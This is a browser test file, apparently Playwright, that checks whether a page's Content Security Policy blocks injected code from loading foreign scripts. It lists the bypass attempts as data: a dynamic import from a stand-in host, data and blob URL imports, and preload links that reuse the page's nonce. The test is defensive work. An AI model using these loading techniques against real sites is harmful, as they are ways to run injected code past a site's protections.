import { expect, test } from '../support/test.ts';

const ELSEWHERE = 'https://elsewhere.example';
const CODE = 'globalThis.foreignCode = true';

/** Ways of code in the page to load other code that no Trusted Types policy sees, as expressions. */
const WAYS = [
  { way: 'an import from another site', load: `import('${ELSEWHERE}/import.js')` },
  { way: 'an import of a data URL', load: `import('data:text/javascript,${encodeURIComponent(CODE)}')` },
  {
    way: 'an import of a text',
    load: `import(URL.createObjectURL(new Blob(['${CODE}'], { type: 'text/javascript' })))`,
  },
  ...['modulepreload', 'preload'].map((rel) => ({
    way: `a ${rel} with the nonce of the page`,
    load: `new Promise((resolve, reject) => {
      const { nonce } = document.querySelector('script[nonce]');
      const link = Object.assign(document.createElement('link'), { rel: '${rel}', as: 'script', nonce });
      link.addEventListener('load', resolve);
      link.addEventListener('error', reject);
      link.href = '${ELSEWHERE}/${rel}.js?secret';
      document.head.append(link);
    })`,
  })),
];

test('code in the page cannot load code from elsewhere, nor make a request with it', async ({
  page,
  problems,
}) => {
  problems.allow(/Content Security Policy/i, /elsewhere\.example/);
  const requested: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    requested.push(route.request().url());
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: CODE,
    });
  });
  await page.goto('/exchange');
  for (const { way, load } of WAYS)
    await test.step(`Then ${way} is refused`, async () => {
      const result = await page.evaluate<string>(`${load}.then(() => 'loaded', () => 'refused')`);
      expect({ way, result }).toEqual({ way, result: 'refused' });
    });
  expect(requested).toEqual([]);
  expect(await page.evaluate(() => Reflect.has(globalThis, 'foreignCode'))).toBe(false);
});
